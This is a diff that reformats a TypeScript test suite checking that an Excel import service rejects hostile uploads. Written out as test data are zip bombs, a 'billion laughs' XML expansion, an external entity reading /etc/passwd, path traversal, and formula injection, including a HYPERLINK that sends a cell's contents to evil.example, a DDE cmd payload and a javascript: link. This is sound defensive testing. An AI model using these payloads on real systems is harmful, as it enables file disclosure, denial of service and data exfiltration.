@@ -12,26 +12,66 @@ const formula = '=HYPERLINK("http://evil.example/?"&A1,"点我")';
 
 const filled = (rows: Record<string, ExcelJS.CellValue>[]) => filledSheet(held.recorder, rows);
 const good = { 开展日期: '2023-09-01', 单位: '第一支队', 类别: '警示教育', 标题: '从表格来' };
-const entities = `<!DOCTYPE x [<!ENTITY a "ha">${'bcdefghij'.split('').map((name, i) => `<!ENTITY ${name} "${`&${'abcdefghi'[i]};`.repeat(10)}">`).join('')}]>`;
+const entities = `<!DOCTYPE x [<!ENTITY a "ha">${'bcdefghij'
+  .split('')
+  .map((name, i) => `<!ENTITY ${name} "${`&${'abcdefghi'[i]};`.repeat(10)}">`)
+  .join('')}]>`;
 const row = '<row r="1"><c r="A1" t="inlineStr"><is><t>x</t></is></c></row>';
 
 const bombs: [string, () => Buffer][] = [
-  ['a bomb: 90 MB of nothing', () => zip(minimal(row, [{ name: 'xl/media/a.bin', data: Buffer.alloc(90 * 1024 * 1024) }]))],
-  ['a bomb whose directory lies', () => zip([...minimal(row).slice(0, 4), { name: 'xl/worksheets/sheet1.xml', data: Buffer.alloc(20 * 1024 * 1024, 32), claim: 1000 }])],
-  ['ten thousand parts', () => zip(minimal(row, Array.from({ length: 10_000 }, (_, i) => ({ name: `x/${i}`, data: '' }))))],
-  ['a billion laughs', () => zip(minimal('<row r="1"><c r="A1" t="inlineStr"><is><t>&j;</t></is></c></row>', [], entities))],
-  ['an outside entity', () => zip(minimal('<row r="1"><c r="A1" t="inlineStr"><is><t>&e;</t></is></c></row>', [], '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'))],
+  [
+    'a bomb: 90 MB of nothing',
+    () => zip(minimal(row, [{ name: 'xl/media/a.bin', data: Buffer.alloc(90 * 1024 * 1024) }])),
+  ],
+  [
+    'a bomb whose directory lies',
+    () =>
+      zip([
+        ...minimal(row).slice(0, 4),
+        { name: 'xl/worksheets/sheet1.xml', data: Buffer.alloc(20 * 1024 * 1024, 32), claim: 1000 },
+      ]),
+  ],
+  [
+    'ten thousand parts',
+    () =>
+      zip(
+        minimal(
+          row,
+          Array.from({ length: 10_000 }, (_, i) => ({ name: `x/${i}`, data: '' })),
+        ),
+      ),
+  ],
+  [
+    'a billion laughs',
+    () => zip(minimal('<row r="1"><c r="A1" t="inlineStr"><is><t>&j;</t></is></c></row>', [], entities)),
+  ],
+  [
+    'an outside entity',
+    () =>
+      zip(
+        minimal(
+          '<row r="1"><c r="A1" t="inlineStr"><is><t>&e;</t></is></c></row>',
+          [],
+          '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>',
+        ),
+      ),
+  ],
   ['macros', () => zip(minimal(row, [{ name: 'xl/vbaProject.bin', data: 'Sub Auto_Open()' }]))],
   ['a part outside the archive', () => zip([{ name: '../../x', data: 'x' }])],
   ['endless XML', () => zip(minimal('<row>'.repeat(200_000)))],
-  ['a row number beyond all rows', () => zip(minimal('<row r="99999999999"><c r="ZZZZZZ99999999999"><v>1</v></c></row>'))],
+  [
+    'a row number beyond all rows',
+    () => zip(minimal('<row r="99999999999"><c r="ZZZZZZ99999999999"><v>1</v></c></row>')),
+  ],
   ['an old .xls', () => Buffer.from('d0cf11e0a1b11ae1', 'hex')],
   ['a page', () => Buffer.from('<html><table><tr><td>1</td></tr></table></html>')],
   ['nothing', () => Buffer.alloc(0)],
 ];
 const readers: [string, string, () => Client][] = [
-  ['records', '/kinds/activity/import?dryRun=false', () => held.recorder], ['the organisation', '/organisation/imports', () => held.officer],
-  ['a sign-in sheet', '/people/sign-in-sheet', () => held.recorder], ['a policy document', '/policy/drafts/file', () => held.officer],
+  ['records', '/kinds/activity/import?dryRun=false', () => held.recorder],
+  ['the organisation', '/organisation/imports', () => held.officer],
+  ['a sign-in sheet', '/people/sign-in-sheet', () => held.recorder],
+  ['a policy document', '/policy/drafts/file', () => held.officer],
 ];
 
 describe.each(readers)('an import of %s', (_reader, path, who) => {
@@ -42,7 +82,8 @@ describe.each(readers)('an import of %s', (_reader, path, who) => {
     const used = process.cpuUsage(began);
     // The organisation's importer answers a bad table with a refused batch that lists what is wrong.
     const batch = reply.body as unknown as { state?: string; summary?: { units: number; people: number } };
-    if (reply.status === 201) expect([batch.state, batch.summary?.units, batch.summary?.people]).toEqual(['refused', 0, 0]);
+    if (reply.status === 201)
+      expect([batch.state, batch.summary?.units, batch.summary?.people]).toEqual(['refused', 0, 0]);
     else {
       expect([400, 413, 415, 422], JSON.stringify(reply.body)).toContain(reply.status);
       expect(reply.body.detail).toMatch(/[\u4e00-\u9fff]/);
@@ -56,7 +97,14 @@ describe.each(readers)('an import of %s', (_reader, path, who) => {
 });
 
 describe('an import of records', () => {
-  const send = (bytes: Buffer, dryRun = false) => upload<{ code: string; detail: string; created: string[]; problems: { message: string }[] }>(held.recorder, '/kinds/activity/import', 'a.xlsx', bytes, { dryRun: String(dryRun) });
+  const send = (bytes: Buffer, dryRun = false) =>
+    upload<{ code: string; detail: string; created: string[]; problems: { message: string }[] }>(
+      held.recorder,
+      '/kinds/activity/import',
+      'a.xlsx',
+      bytes,
+      { dryRun: String(dryRun) },
+    );
 
   it('cut off anywhere is refused whole; the whole file then goes in', async () => {
     const bytes = await filled([good, { ...good, 开展日期: '2023-09-02' }]);
@@ -80,17 +128,28 @@ describe('an import of records', () => {
   });
 
   it.each<[string, ExcelJS.CellValue]>([
-    ['as text', formula], ['as a formula', { formula: 'HYPERLINK("http://evil.example","点我")', result: '点我' }], ['for another program', `=cmd|'/c calc'!A1`], ['with a plus', '+1+1'], ['with an at', '@SUM(1)'], ['as a link', { text: '看', hyperlink: 'javascript:alert(1)' }],
-  ])('with a formula in a cell %s keeps text only, and what is exported holds no formula', async (_what, value) => {
-    const reply = await send(await filled([{ ...good, 标题: value }]));
-    expect(reply.status, JSON.stringify(reply.body)).toBe(200);
-    const exported = await held.recorder.request({ url: '/api/records/export', query: { unitId: 'det01' } });
-    expect(exported.status).toBe(200);
-    const parts = readDirectory(exported.raw, { entries: 1000, bytes: 1e8, ratio: 1e6 });
-    for (const [name, entry] of parts) {
-      if (!/worksheets\/|externalLink|\.rels$/.test(name)) continue;
-      const text = Buffer.from(inflate(exported.raw, entry)).toString();
-      expect(text, name).not.toMatch(/<f[ >]|<hyperlink|javascript:|TargetMode="External"/);
-    }
-  });
+    ['as text', formula],
+    ['as a formula', { formula: 'HYPERLINK("http://evil.example","点我")', result: '点我' }],
+    ['for another program', `=cmd|'/c calc'!A1`],
+    ['with a plus', '+1+1'],
+    ['with an at', '@SUM(1)'],
+    ['as a link', { text: '看', hyperlink: 'javascript:alert(1)' }],
+  ])(
+    'with a formula in a cell %s keeps text only, and what is exported holds no formula',
+    async (_what, value) => {
+      const reply = await send(await filled([{ ...good, 标题: value }]));
+      expect(reply.status, JSON.stringify(reply.body)).toBe(200);
+      const exported = await held.recorder.request({
+        url: '/api/records/export',
+        query: { unitId: 'det01' },
+      });
+      expect(exported.status).toBe(200);
+      const parts = readDirectory(exported.raw, { entries: 1000, bytes: 1e8, ratio: 1e6 });
+      for (const [name, entry] of parts) {
+        if (!/worksheets\/|externalLink|\.rels$/.test(name)) continue;
+        const text = Buffer.from(inflate(exported.raw, entry)).toString();
+        expect(text, name).not.toMatch(/<f[ >]|<hyperlink|javascript:|TargetMode="External"/);
+      }
+    },
+  );
 });
